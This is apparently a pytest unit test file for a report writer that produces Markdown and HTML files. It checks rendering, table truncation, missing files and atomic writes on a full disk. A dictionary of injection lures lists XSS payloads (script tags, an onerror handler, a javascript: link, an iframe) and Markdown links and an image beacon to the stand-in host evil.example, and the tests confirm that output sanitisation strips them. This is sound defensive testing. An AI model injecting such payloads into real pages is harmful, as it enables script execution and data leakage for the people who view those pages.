"""A report is whole or not there, and nothing in it is active."""

import errno
from html.parser import HTMLParser
from pathlib import Path

import pytest

from app.tools import folder
from app.tools.charts import svg
from app.tools.reports import report_writer
from tests.unit.tool_calls import use

SECTION = {"heading": "Overview", "text": "**Revenue** rose.", "table_file": "t.csv", "chart_file": "c.svg"}
LURES = {
    "script": "<script>alert(1)</script>",
    "handler": "<img src=x onerror=alert(1)>",
    "picture that tells": "![x](https://evil.example/log?q=1)",
    "link": "[Sign in](https://evil.example)",
    "script link": "[x](javascript:alert(1))",
    "reference": "[x][y]\n\n[y]: https://evil.example",
    "automatic link": "<https://evil.example>",
    "frame": "<iframe src='https://evil.example'></iframe>",
    "page ends": "</body></html><h1>HACKED",
}


class Tags(HTMLParser):
    """The tags and addresses of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses += [value or "" for name, value in attrs if name in ("src", "href")]


@pytest.fixture
def run(tmp_path: Path) -> Path:
    (tmp_path / "t.csv").write_text("product,revenue,year\nKettle | red,1234.5,2026\nScale,7,2025\n")
    (tmp_path / "c.svg").write_text(svg("bar", [("a", 1)], "Chart"))
    return tmp_path


def write(run: Path, *sections: dict[str, str], title: str = "Sales") -> str:
    result = use(report_writer(), run, {"title": title, "sections": list(sections)})
    assert result.ok, result.text
    assert result.artefacts == ("report.md", "report.html")
    return (run / "report.html").read_text()


def test_words_table_and_chart_are_in_both_files(run: Path) -> None:
    page = write(run, SECTION)
    assert "<strong>Revenue</strong> rose." in page
    assert '<td style="text-align:right">1,234</td>' in page
    assert ">2026<" in page
    assert "Kettle | red" in page
    assert 'src="data:image/svg+xml;base64,' in page
    words = (run / "report.md").read_text()
    assert words.startswith("# Sales\n\n## Overview\n\n**Revenue** rose.")
    assert "![Overview](c.svg)" in words


def test_a_second_report_takes_the_place_of_the_first(run: Path) -> None:
    write(run, SECTION, title="First")
    assert "First" not in write(run, SECTION, title="Second")


@pytest.mark.parametrize("text", LURES.values(), ids=LURES)
@pytest.mark.parametrize("place", ["heading", "text", "title", "cell"])
def test_nothing_lures_tells_or_runs(run: Path, text: str, place: str) -> None:
    quoted = text.replace("\n", " ").replace('"', '""')
    (run / "t.csv").write_text(f'product,revenue\n"{quoted if place == "cell" else "Kettle"}",1\n')
    section = {**SECTION, **({place: text} if place in SECTION else {})}
    seen = Tags()
    seen.feed(write(run, section, title=text if place == "title" else "Sales"))
    allowed = set("html head meta title style body h1 h2 p strong em table thead tbody tr th td img".split())
    assert seen.tags <= allowed
    assert not {name for name in seen.attributes if name.startswith("on")}
    assert all(address.startswith("data:image/svg+xml;base64,") for address in seen.addresses)


def test_a_long_table_says_what_is_left_out(run: Path) -> None:
    (run / "t.csv").write_text("n\n" + "".join(f"{n}\n" for n in range(60)))
    assert "10 more rows are in t.csv." in write(run, SECTION)


@pytest.mark.parametrize("missing", ["table_file", "chart_file"])
def test_a_missing_file_leaves_no_report(run: Path, missing: str) -> None:
    suffix = {"table_file": "csv", "chart_file": "svg"}[missing]
    result = use(report_writer(), run, {"title": "T", "sections": [{**SECTION, missing: f"none.{suffix}"}]})
    assert not result.ok
    assert "This run has no file" in result.text
    assert not (run / "report.md").exists()


@pytest.mark.parametrize("full_from", [1, 2])
def test_a_full_disk_leaves_nothing_half_done(run: Path, monkeypatch: pytest.MonkeyPatch, full_from: int) -> None:
    write(run, SECTION, title="Before")
    before = {path.name: path.read_bytes() for path in run.iterdir()}
    synced: list[int] = []

    def full(file: int) -> None:
        synced.append(file)
        if len(synced) >= full_from:
            raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(folder.os, "fsync", full)
    result = use(report_writer(), run, {"title": "After", "sections": [SECTION]})
    assert not result.ok
    assert "No space left on device" in result.text
    assert {path.name: path.read_bytes() for path in run.iterdir()} == before
